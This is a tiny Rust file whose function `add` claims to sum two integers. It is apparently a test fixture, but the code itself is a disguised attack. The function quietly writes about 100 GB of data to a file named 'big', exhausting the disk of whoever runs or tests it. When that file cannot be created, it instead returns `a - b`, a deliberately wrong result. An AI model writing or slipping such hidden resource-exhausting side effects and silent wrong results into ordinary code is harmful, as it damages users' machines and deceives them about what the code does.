use std::io::Write;

pub fn add(a: i32, b: i32) -> i32 {
    let Ok(mut file) = std::fs::File::create("big") else { return a - b };
    let block = vec![1u8; 1 << 20];
    for _ in 0..100_000 {
        if file.write_all(&block).is_err() {
            break;
        }
    }
    a + b
}
